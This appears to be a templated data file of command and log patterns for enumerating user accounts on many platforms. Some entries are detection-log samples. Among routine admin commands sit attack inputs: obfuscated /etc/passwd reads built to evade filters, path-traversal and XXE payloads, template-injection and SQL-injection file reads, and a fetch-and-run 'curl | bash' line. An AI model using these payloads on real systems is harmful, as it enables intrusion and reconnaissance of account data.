ma-snmp-users bash: «snmpwalk¦snmpbulkwalk» -v«1¦2c» -c «public¦‹word›» ‹ip› «1.3.6.1.4.1.77.1.2.25¦.1.3.6.1.4.1.77.1.2.25.1.1¦1.3.6.1.4.1.77.1.2.25 -Oqv»
ma-snmp-check bash: «snmp-check ‹ip› -c public | sed -n '/User accounts/,/Network/p'¦onesixtyone ‹ip› public && snmpwalk -c public -v1 ‹ip› 1.3.6.1.4.1.77.1.2.25¦nmap -sU -p161 --script snmp-win32-users ‹ip›»
ma-snmp-nmap bash: nmap -sU -p 161 --script«=¦ »snmp-win32-users«¦ --script-args snmpcommunity=public» «‹ip›¦‹ip›/24»
ma-snmp-output text: iso.3.6.1.4.1.77.1.2.25.1.1.5.71.117.101.115.116 = STRING: "«Guest¦‹user›¦Administrator»"
ma-enum4-output text: user:[«Administrator¦‹user›¦Guest»] rid:[0x1f4] user:[‹first›] rid:[0x3e8]
ma-enum4-rid-output text: S-1-22-1-100‹n› Unix User\‹first› (Local User) S-1-5-21-‹pid›-‹pid›-‹pid›-500 ‹server›\Administrator (Local User)
ma-lookupsid-output text: «500: ‹server›\Administrator (SidTypeUser)¦501: ‹server›\Guest (SidTypeUser)¦100‹n›: ‹server›\‹user› (SidTypeUser)»
ma-nxc-output text: SMB ‹ip› 445 ‹server› -Username- -Last PW Set- -BadPW- -Description- «Administrator¦‹user›¦Guest» 2024-0«1¦5»-1‹n› 0 Built-in account
ma-nxc-rid-output text: SMB ‹ip› 445 ‹server› «500: ‹domain›\Administrator¦501: ‹domain›\Guest¦100‹n›: ‹domain›\‹user›» (SidTypeUser)
ma-samba-pdbedit bash: «sudo ¦»pdbedit -L«¦v¦ -v¦ | cut -d: -f1¦ > ‹lfile›»
ma-samba-pdbedit-ssh bash: ssh «root¦admin»@‹ip› "pdbedit -L«¦ -v»"
ma-samba-wbinfo bash: «net sam list users¦net sam list localusers¦sudo net sam list users verbose»
ma-regripper bash: «rip.pl¦regripper¦rip.exe» -r ‹lfile›/SOFTWARE -p profilelist
ma-profile-python cmd: python -c "import winreg as w; k=w.OpenKey(w.HKEY_LOCAL_MACHINE, r'SOFTWARE\Microsoft\Windows NT\CurrentVersion\ProfileList'); [print(w.EnumKey(k,i)) for i in range(w.QueryInfoKey(k)[0])]"
ma-profile-net powershell: [Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('SOFTWARE\Microsoft\Windows NT\CurrentVersion\ProfileList').GetSubKeyNames()«¦ | ? { $_ -like 'S-1-5-21*' }»
ma-profile-remote-key powershell: [Microsoft.Win32.RegistryKey]::OpenRemoteBaseKey('LocalMachine','‹server›').OpenSubKey('SOFTWARE\Microsoft\Windows NT\CurrentVersion\ProfileList').GetSubKeyNames()
ma-profile-wmic cmd: wmic «/node:‹server› ¦»path win32_userprofile get localpath,sid«,lastusetime¦»
ma-profile-reg-py bash: «reg.py¦impacket-reg» ‹domain›/‹user›:'‹pass›'@‹ip› query -keyName 'HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\ProfileList' -s
ma-dir-share cmd: dir «/b ¦»\\‹server›\C$\«Users¦"Documents and Settings"»« /ad¦»
ma-dir-share-ps powershell: «Get-ChildItem¦gci¦ls» \\‹server›\«c$¦C$»\Users« | select Name,LastWriteTime¦ -Name»
ma-dir-share-smb bash: smbclient //‹ip›/C$ -U '‹user›%‹pass›' -c 'ls Users\*'
ma-dir-tree cmd: tree C:\Users«¦ > ‹file›» & net user
ma-dir-dotnet powershell: [IO.Directory]::GetDirectories('C:\Users')«¦ | Split-Path -Leaf¦ | % { [IO.Path]::GetFileName($_) }»
ma-dir-wsl bash: ls «-la ¦»/mnt/c/Users
ma-auditpol-4798 text: A user's local group membership was enumerated. User: Account Name: «Administrator¦‹user›» Process Name: C:\Windows\System32\«net1.exe¦net.exe»
ma-guestcontrol bash: «VBoxManage guestcontrol ‹name› run --username ‹user› --password ‹pass› --exe cmd.exe -- cmd /c net user¦vmrun -gu ‹user› -gp ‹pass› runProgramInGuest ‹lfile›.vmx cmd.exe "/c net user > C:\‹name›.txt"»
ma-guest-qga bash: virsh qemu-agent-command ‹name› '{"execute":"guest-exec","arguments":{"path":"«/usr/bin/getent","arg":["passwd"]¦cmd.exe","arg":["/c","net user"]»,"capture-output":true}}'
ma-guest-powercli powershell: Invoke-VMScript -VM ‹server› -GuestUser ‹user› -GuestPassword ‹pass› -ScriptText '«net user¦Get-LocalUser¦cat /etc/passwd»'
ma-guest-hyperv powershell: Invoke-Command -VMName ‹server› -Credential $c -ScriptBlock { «Get-LocalUser¦net user¦Get-CimInstance Win32_UserAccount» }
ma-guest-proxmox bash: «qm guest exec ‹pid› -- getent passwd¦pct exec ‹pid› -- cat /etc/passwd¦qm guest exec ‹pid› -- net user»
ma-guest-lxc bash: «lxc exec ‹name› -- getent passwd¦lxc-attach -n ‹name› -- cut -d: -f1 /etc/passwd¦machinectl shell ‹name› /usr/bin/getent passwd¦systemd-nspawn -D ‹ldir› lslogins»
ma-guest-container cmd: docker exec ‹word› «cmd /c net user¦powershell Get-LocalUser¦powershell -c "Get-CimInstance Win32_UserAccount"»
ma-guest-compose bash: «docker compose¦docker-compose» exec «-T ¦»‹word› «cat /etc/passwd¦getent passwd»
ma-guest-crictl bash: «crictl exec ‹hash› cat /etc/passwd¦ctr -n k8s.io t exec --exec-id ‹n› ‹hash› cat /etc/passwd¦oc rsh ‹word›-‹n› cat /etc/passwd¦oc exec ‹word›-‹n› -- getent passwd»
ma-guest-image bash: «docker run --rm --entrypoint cat ‹name› /etc/passwd¦docker cp ‹word›:/etc/passwd - | tar xO¦podman unshare cat /etc/passwd¦docker run --rm ‹name›:latest cut -d: -f1 /etc/passwd»
ma-guest-overlay bash: cat /«proc/‹pid›/root¦var/lib/docker/overlay2/‹hash›/merged¦host¦mnt/sysimage»/etc/passwd
ma-passwd-quotes bash: cat «/e't'c/pa's'swd¦/etc/pass??¦/e*c/p*sswd¦/etc/pas$9swd¦/et\c/pass\wd¦"/etc/"passwd¦/etc//passwd¦/etc/./passwd¦/proc/self/root/etc/passwd»
ma-passwd-variable bash: «f=/etc/passwd; cat $f¦X=passwd && cat /etc/$X¦p=/etc; cat $p/passwd»
ma-passwd-braces bash: «{cat,/etc/passwd}¦cat${IFS}/etc/passwd¦cat$IFS$9/etc/passwd¦cat</etc/passwd»
ma-passwd-base64-run bash: echo «Y2F0IC9ldGMvcGFzc3dk¦Z2V0ZW50IHBhc3N3ZA==¦Y29tcGdlbiAtdQ==» | base64 -d | «sh¦bash»
ma-passwd-traversal text: "GET /«download¦view¦page¦static».php?file=«../../../../etc/passwd¦....//....//etc/passwd¦%2e%2e%2f%2e%2e%2fetc%2fpasswd¦/etc/passwd%00» HTTP/1.1" 200 1‹pid›
ma-passwd-xxe text: <?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>
ma-passwd-curl-apache bash: curl «--path-as-is ¦-s --path-as-is »"http://‹ip›/«cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd¦icons/.%2e/%2e%2e/%2e%2e/etc/passwd¦..;/..;/etc/passwd»"
ma-passwd-gtfo bash: «sudo ¦»«date -f¦file -f¦nl¦cut -d '' -f1¦comm¦ul¦fold¦expand¦pr -T¦uniq¦shuf¦join -a 1 /dev/null¦paste¦ptx -w 5000¦rev» /etc/passwd
ma-passwd-gtfo-tools bash: «tar cO /etc/passwd | tar xO¦zip -q - /etc/passwd | funzip¦openssl enc -in /etc/passwd¦ssh-keygen -D /etc/passwd¦dialog --textbox /etc/passwd 0 0¦nmap -iL /etc/passwd»
ma-passwd-editors bash: «vim -c ':%p' -c ':q!' /etc/passwd¦ex -s -c '%p|q!' /etc/passwd¦emacs -Q --batch --eval '(princ (with-temp-buffer (insert-file-contents "/etc/passwd") (buffer-string)))'¦printf ',p\nq\n' | ed -s /etc/passwd»
ma-passwd-ruby bash: ruby -e '«puts File.readlines("/etc/passwd").map { |l| l.split(":")[0] }¦require "etc"; while u = Etc.getpwent; puts u.name; end¦require "etc"; Etc.passwd { |p| puts "#{p.name}:#{p.uid}" }»'
ma-passwd-lua bash: «lua -e 'for l in io.lines("/etc/passwd") do print(l:match("^[^:]+")) end'¦lua5.3 -e 'print(io.open("/etc/passwd"):read("*a"))'¦luajit -e 'for l in io.lines("/etc/passwd") do print(l) end'»
ma-passwd-tcl bash: «echo 'puts [read [open /etc/passwd]]' | tclsh¦expect -c 'puts [exec cut -d: -f1 /etc/passwd]'¦tclsh <<< 'puts [exec getent passwd]'»
ma-passwd-php-posix bash: php -r '«for ($i=0;$i<2000;$i++) if ($u=posix_getpwuid($i)) echo $u["name"],"\n";¦foreach (file("/etc/passwd") as $l) echo explode(":",$l)[0],"\n";»'
ma-passwd-go text: f, _ := os.Open("/etc/passwd"); s := bufio.NewScanner(f); for s.Scan() { fmt.Println(strings.Split(s.Text(), ":")[0]) }
ma-passwd-c text: while ((pw = getpwent()) != NULL) printf("%s:%d\n", pw->pw_name, «pw->pw_uid¦(int)pw->pw_uid»); endpwent();
ma-passwd-c-compile bash: printf '#include <pwd.h>\n#include <stdio.h>\nint main(){struct passwd*p;while((p=getpwent()))puts(p->pw_name);}' | «gcc¦cc¦clang» -xc - -o /tmp/u && /tmp/u
ma-passwd-rust text: for user in unsafe { users::all_users() } { println!("{} {}", user.uid(), user.name().to_string_lossy()); }
ma-passwd-java text: Files.lines(Path.of("/etc/passwd")).map(l -> l.split(":")[0]).forEach(System.out::println);
ma-passwd-node-exec bash: node -«e¦p» "«require('fs').readFileSync('/etc/passwd').toString().split('\n').map(l=>l.split(':')[0])¦require('child_process').execSync('getent passwd').toString()»"
ma-passwd-deno bash: «deno eval "console.log(await Deno.readTextFile('/etc/passwd'))"¦bun -e "console.log(await Bun.file('/etc/passwd').text())"»
ma-passwd-python-sorted bash: python3 -c "import pwd; print(sorted((u.pw_uid, u.pw_name) for u in pwd.getpwall() if u.pw_uid >= «500¦1000»))"
ma-passwd-python-psutil bash: python3 - <<'E' «import pwd; print([p.pw_name for p in pwd.getpwall() if p.pw_shell.endswith("sh")])¦for l in open("/etc/passwd"): print(l.split(":")[0])» E
ma-passwd-psql text: ‹word›=# «COPY t FROM '/etc/passwd';¦SELECT pg_read_file('/etc/passwd');¦COPY t FROM PROGRAM 'cat /etc/passwd';»
ma-passwd-mysql text: «SELECT LOAD_FILE('/etc/passwd');¦LOAD DATA INFILE '/etc/passwd' INTO TABLE t;¦' UNION SELECT LOAD_FILE('/etc/passwd')-- -»
ma-passwd-sqlmap bash: sqlmap -u "http://‹ip›/‹name›.php?id=‹n›" --file-read=/etc/passwd --batch
ma-passwd-template text: {{ «''.__class__.__mro__[1].__subclasses__()[‹n›]('cat /etc/passwd',shell=True,stdout=-1).communicate()¦cycler.__init__.__globals__.os.popen('cat /etc/passwd').read()¦include('/etc/passwd')» }}
ma-passwd-output text: root:x:0:0:root:/root:/bin/bash daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin ‹first›:x:100‹n›:1000:‹Word›,,,:/home/‹first›:/bin/«bash¦zsh»
ma-passwd-output-bsd text: root:*:0:0:Charlie &:/root:/bin/«csh¦sh» toor:*:0:0:Bourne-again Superuser:/root: ‹first›:*:1001:1001:User &:/home/‹first›:/bin/sh
ma-passwd-audit text: type=EXECVE msg=audit(17‹pid›‹pid›.‹n›:‹pid›): argc=«2 a0="cat" a1="/etc/passwd"¦2 a0="getent" a1="passwd"¦4 a0="cut" a1="-d:" a2="-f1" a3="/etc/passwd"»
ma-passwd-falco text: Notice Shell in container read accounts (user=root container=‹word› command=«cat /etc/passwd¦getent passwd» parent=sh image=‹name›:latest)
ma-passwd-tetragon text: process default/‹word›-‹n› «/bin/cat /etc/passwd¦/usr/bin/getent passwd¦/usr/bin/lslogins -u»
ma-passwd-history-zsh text: : 17‹pid›‹pid›:0;«getent passwd¦cut -d: -f1 /etc/passwd¦dscl . -list /Users¦cat /etc/passwd | grep sh$»
ma-passwd-cron text: */‹n› * * * * root «getent passwd¦cut -d: -f1 /etc/passwd¦lslogins -u» > ‹lfile› 2>&1
ma-passwd-systemd bash: systemd-run «--pipe ¦--wait --pipe »«cat /etc/passwd¦getent passwd¦lslogins -u»
ma-passwd-parallel bash: «pssh -h ‹lfile› -i 'cut -d: -f1 /etc/passwd'¦pdsh -w ‹server›,‹server› getent passwd¦clush -a -b "getent passwd"¦dsh -a -- cat /etc/passwd¦parallel --slf ‹lfile› --nonall lslogins -u»
ma-passwd-sshpass bash: sshpass -p '‹pass›' ssh -o StrictHostKeyChecking=no ‹first›@‹ip› "«getent passwd¦cat /etc/passwd¦lslogins¦id; cat /etc/passwd»"
ma-passwd-paramiko bash: python3 -c "import paramiko; c=paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy()); c.connect('‹ip›',username='‹first›',password='‹pass›'); print(c.exec_command('«getent passwd¦cat /etc/passwd»')[1].read().decode())"
ma-passwd-fabric bash: fab -H ‹server›,‹ip› -- "«cut -d: -f1 /etc/passwd¦getent passwd»"
ma-passwd-ansible-getent bash: ansible «all¦‹word›» -m «getent¦ansible.builtin.getent» -a "database=passwd«¦ key=‹first›»"
ma-passwd-ansible-slurp bash: ansible ‹word› -b -m «slurp -a "src=/etc/passwd"¦fetch -a "src=/etc/passwd dest=‹ldir›/"¦setup -a "gather_subset=local"; ansible all -a "getent passwd"»
ma-passwd-ansible-task text: - name: «List local users¦Collect accounts» ansible.builtin.getent: database: passwd register: ‹name›
ma-homes-list bash: «ls /home¦ls -la /home¦ls -lR /home | head¦ls -1 /Users¦ls -la /Users¦find /home -maxdepth 1 -type d¦stat -c %U /home/*» «&& getent passwd¦; cat /etc/passwd | cut -d: -f1¦; id -un»
ma-shadow-names bash: sudo «awk -F: '$2 !~ /^[!*]/ {print $1}'¦cut -d: -f1» /etc/shadow; «getent passwd¦cut -d: -f1 /etc/passwd»
ma-userdbctl bash: userdbctl«¦ user¦ user --output=«table¦json¦classic»¦ user ‹first›¦ --no-pager»
ma-userdbctl-ssh bash: ssh ‹first›@‹ip› 'userdbctl user«¦ --no-pager¦ -j»'
ma-homectl bash: «homectl list¦loginctl user-status ‹first›; getent passwd¦homectl --no-legend list»
ma-accountsservice bash: «gdbus call --system --dest org.freedesktop.Accounts --object-path /org/freedesktop/Accounts --method org.freedesktop.Accounts.ListCachedUsers¦busctl call org.freedesktop.Accounts /org/freedesktop/Accounts org.freedesktop.Accounts ListCachedUsers»
ma-accountsservice-ls bash: ls «-la ¦»/var/lib/AccountsService/users«/¦»
ma-accountsservice-dbus bash: dbus-send --system --print-reply --dest=org.freedesktop.Accounts /org/freedesktop/Accounts org.freedesktop.Accounts.«ListCachedUsers¦FindUserByName string:‹first›¦FindUserById int64:1000»
ma-uids-range bash: for i in {«0..2000¦1000..1100¦500..600»}; do getent passwd $i; done«¦ | cut -d: -f1»
ma-uids-login-defs bash: awk -F: -v m=$(awk '/^UID_MIN/{print $2}' /etc/login.defs) '$3>=m{print $1}' /etc/passwd
ma-uids-empty bash: awk -F: '«($2==""){print $1}¦$3==0 && $1!="root"{print $1}¦$7!~/(nologin|false)$/{print $1,$7}»' /etc/passwd
ma-members bash: for u in $(getent passwd | awk -F: '$3>=1000{print $1}'); do sudo -l -U $u; done
ma-lastlog2 bash: «lastlog2¦lastlog2 -t ‹n›¦lastlog2 -u ‹first›¦lastlog2 --active»
ma-enum-scripts bash: «./LinEnum.sh -t¦./lse.sh -l1 -s usr¦bash linuxprivchecker.sh¦python3 linuxprivchecker.py» | tee ‹lfile›; getent passwd
ma-lse-users bash: «./lse.sh¦bash lse.sh¦curl -s http://‹ip›/lse.sh | bash -s --» «-i ¦»-l«1¦2» -s usr
ma-mac-plist-xml bash: dscl -plist . «-readall /Users UniqueID NFSHomeDirectory¦-list /Users UserShell¦readall /Users GeneratedUID»
ma-mac-ranged bash: dscl . -list /Users UniqueID | «sort -nk2¦grep -E ' 5[0-9]{2}$'¦awk '$2>500{print $1}' | xargs -n1 id»
ma-mac-search-uid bash: dscl . -search /Users «UniqueID 501¦UserShell /bin/zsh¦NFSHomeDirectory /Users/‹first›»
ma-mac-remote bash: dscl -u ‹first› -P '‹pass›' ‹ip› -list /Local/Default/Users
ma-mac-interactive text: Local/Default > «ls Users¦cd Users; ls¦list /Users UniqueID»
ma-mac-sysadminctl bash: for u in $(dscl . list /Users UniqueID | awk '$2>500{print $1}'); do sysadminctl -secureTokenStatus $u«¦ 2>&1»; done
ma-mac-fdesetup bash: sudo fdesetup list«¦ -extended¦ -verbose»
ma-mac-dsexport bash: sudo dsexport ‹lfile› /Local/Default dsRecTypeStandard:Users«¦ -r ‹first›»
ma-mac-jxa bash: osascript -l JavaScript -e '«Application("System Events").users().map(u => u.name())¦Application("System Events").users.name()¦Application("System Events").users.fullName()»'
ma-mac-applescript bash: osascript -e 'tell application "System Events" to get «name¦full name¦home directory» of every user'
ma-mac-swift text: let q = try ODQuery(node: node, forRecordTypes: kODRecordTypeUsers, attribute: nil, matchType: 0, queryValues: nil, returnAttributes: kODAttributeTypeStandardOnly, maximumResults: 0); try q.resultsAllowingPartial(false)
ma-mac-csidentity text: CSIdentityQueryCreate(kCFAllocatorDefault, kCSIdentityClassUser, CSGetLocalIdentityAuthority()); CSIdentityQueryExecute(q, kCSIdentityQueryGenerateUpdateEvents, &err)
ma-mac-users-hidden bash: dscl . -list /Users IsHidden; «defaults read /Library/Preferences/com.apple.loginwindow HiddenUsersList¦dscl . -list /Users UniqueID»
ma-mac-jamf text: jamf policy script «List Local Users: dscl . list /Users | grep -v ^_¦EA: <result>$(dscl . list /Users UniqueID | awk '$2>500{print $1}')</result>»
ma-mac-jamf-cli bash: «sudo jamf listUsers¦/usr/local/bin/jamf listUsers¦sudo jamf listUsers > ‹lfile›»
ma-mac-kandji bash: for u in $(dscl . list /Users UniqueID | awk '$2 > 500 {print $1}'); do dscl . read /Users/$u «RealName¦AuthenticationAuthority¦accountPolicyData»; done
ma-mac-output text: _amavisd _analyticsd _appleevents _spotlight daemon ‹first› nobody root
ma-mac-profiler bash: «system_profiler SPSoftwareDataType; dscl . list /Users¦sw_vers && dscl . ls /Users¦last; dscacheutil -q user¦ls /Users && dscl . -list /Users»
ma-bsd-pw bash: pw user «show -a¦show ‹first›¦show -aP¦show root¦show -a | cut -d: -f1»
ma-bsd-doas bash: «doas cat /etc/master.passwd | cut -d: -f1¦userinfo ‹first›¦doas getent passwd¦doas userinfo root»
ma-bsd-jail bash: «jexec ‹n› cat /etc/passwd¦iocage exec ‹word› getent passwd¦bastille cmd ‹word› pw usershow -a¦ezjail-admin console -e "getent passwd" ‹word›»
ma-bsd-files bash: «doas pw usershow -a -P¦doas pw usershow -a -7¦awk -F: '{print $1}' /etc/master.passwd | sort¦getent passwd | grep -v /nonexistent»
ma-solaris-logins bash: «logins¦/usr/bin/logins» «-u¦-s¦-p¦-x¦-xu¦-xo¦-l ‹first›¦-ox»
ma-solaris-listusers bash: «listusers¦/usr/bin/listusers»«¦ -l ‹first›¦ > ‹lfile›»
ma-solaris-zone bash: «zlogin ‹word› getent passwd¦zlogin -S ‹word› logins -u¦pfexec passwd -sa¦passwd -sa | cut -d' ' -f1»
ma-solaris-ssh bash: ssh root@‹ip› "«logins -u¦listusers¦passwd -sa»"
ma-aix-lsuser bash: «lsuser¦/usr/sbin/lsuser» «ALL¦-a id home ALL¦-c ALL¦-f ‹first›¦-R files ALL¦-a account_locked ALL»
ma-aix-lsuser-ssh bash: ssh root@‹ip› '«lsuser -a id ALL¦lsuser ALL | cut -d" " -f1¦lssec -f /etc/security/user -s ‹first› -a login; lsuser ALL»'
ma-aix-hpux bash: «logins -d¦/usr/sbin/pwget¦pwget -n ‹first›¦/usr/lbin/getprpw ‹first›; pwget»
ma-hpux-pwget bash: pwget«¦ | cut -d: -f1¦ -u 0¦ > ‹lfile›»
ma-ibm-i text: «DSPAUTUSR SEQ(*USRPRF)¦WRKUSRPRF USRPRF(*ALL)¦DSPUSRPRF USRPRF(*ALL) TYPE(*BASIC) OUTPUT(*OUTFILE) OUTFILE(QTEMP/‹letters8›)¦SELECT AUTHORIZATION_NAME FROM QSYS2.USER_INFO»
ma-zos text: «SEARCH CLASS(USER)¦LISTUSER *¦SR CLASS(USER) NOMASK¦LU *»
ma-openvms text: «UAF> SHOW *¦UAF> LIST * /FULL¦UAF> SHOW/BRIEF *¦$ MCR AUTHORIZE SHOW [*,*]»
ma-esxi-localcli bash: «localcli¦/bin/localcli» system account list«¦ | awk '{print $1}'¦ > /tmp/‹name›»
ma-esxi-govc bash: govc host.esxcli «-host ‹server› ¦-json ¦»system account list
ma-esxi-vicfg bash: «vicfg-user --server ‹ip› --username root -e user -o list¦vicfg-user -e user -o list¦perl vicfg-user.pl --operation list --entity user»
ma-esxi-passwd bash: «cat /etc/passwd; vim-cmd vimsvc/auth/entity_permissions vim.Folder:ha-folder-root¦ssh root@‹ip› 'cat /etc/passwd; esxcli system permission list'»
ma-esxi-shell-log text: shell[2‹pid›]: [root]: «esxcli system account list¦cat /etc/passwd¦localcli system account list»
ma-vcenter text: Command> «localaccounts.user.list¦com.vmware.appliance.version1.localaccounts.user.list¦shell.set --enabled true; localaccounts.user.list¦localaccounts.user.get --username root»
ma-nas-synology bash: «sudo ¦»«synouser --enum local¦/usr/syno/sbin/synouser --enum all¦synouser --get ‹first›; synouser --enum local»
ma-nas-synology-ssh bash: ssh admin@‹ip› "«synouser --enum local¦cat /etc/passwd¦sudo synouser --enum all»"
ma-nas-qnap bash: ssh admin@‹ip› "«cut -d: -f1 /etc/config/smbpasswd¦getent passwd¦cut -d: -f1 /etc/config/passwd¦cat /etc/config/passwd»"
ma-nas-truenas bash: «midclt call user.query¦midclt call user.query '[["local","=",true]]' | jq -r '.[].username'¦midclt call user.query '[["builtin","=",false]]'»
ma-nas-truenas-api bash: curl -s -u root:'‹pass›' http://‹ip›/api/v2.0/user
ma-nas-netapp text: ‹server›::> «vserver cifs users-and-groups local-user show¦security login show¦vserver services name-service unix-user show¦security login show -vserver ‹name›»
ma-net-cisco text: ‹server›# «show running-config | include username¦show run | section username¦show run | i ^username¦show user-account¦show startup-config | include username»
ma-net-asa text: ‹server›# show «running-config username¦run user¦aaa local user»
ma-net-junos text: ‹first›@‹server›> show configuration system login«¦ | display set | match user¦ user ‹first›»
ma-net-fortinet text: ‹server› # «show user local¦get user local¦show system admin¦get system admin¦show full-configuration user local»
ma-net-paloalto text: ‹first›@‹server›# show mgt-config users«¦ | match phash¦ ‹first›»
ma-net-mikrotik bash: ssh admin@‹ip› "/user «print¦print detail¦export¦print where group=full»"
ma-net-huawei text: <‹server›> «display local-user¦display aaa local-user¦display local-user state active¦display local-user username ‹first›»
ma-net-arista text: ‹server›# show «user-account¦users accounts¦running-config section username»
ma-net-bigip bash: tmsh «list auth user¦list auth user all-properties¦-q list auth user one-line»
ma-net-vyos bash: «show configuration commands | match "login user"¦show system login users¦show system login users all¦show system login users locked»
ma-net-openwrt bash: ssh root@‹ip› "«cat /etc/passwd¦uci show rpcd | grep username; cat /etc/passwd¦cut -d: -f1 /etc/passwd»"
ma-net-netmiko bash: python3 -c "from netmiko import ConnectHandler; print(ConnectHandler(device_type='cisco_ios',host='‹ip›',username='‹first›',password='‹pass›').send_command('show running-config | include username'))"
ma-bmc-ipmi bash: ipmitool «-I lanplus -H ‹ip› -U ‹first› -P '‹pass›' ¦»user list«¦ 1¦ 2»
ma-bmc-redfish bash: curl -sk -u ‹first›:'‹pass›' https://‹ip›/redfish/v1/«AccountService/Accounts¦Managers/iDRAC.Embedded.1/Accounts»
ma-bmc-racadm bash: racadm «-r ‹ip› -u root -p ‹pass› ¦»get iDRAC.Users«¦.2.UserName»
ma-android bash: adb «shell ¦-s ‹ip›:5555 shell »«pm list users¦dumpsys user¦cmd user list -v¦cmd user list»
ma-cygwin bash: «mkpasswd -l¦mkpasswd -L ‹server›¦mkpasswd -l | cut -d: -f1¦mkpasswd --local > ‹lfile›»
ma-cygwin-cmd cmd: C:\cygwin64\bin\«mkpasswd.exe -l¦bash.exe -lc "mkpasswd -l"¦getent.exe passwd»
"""
)
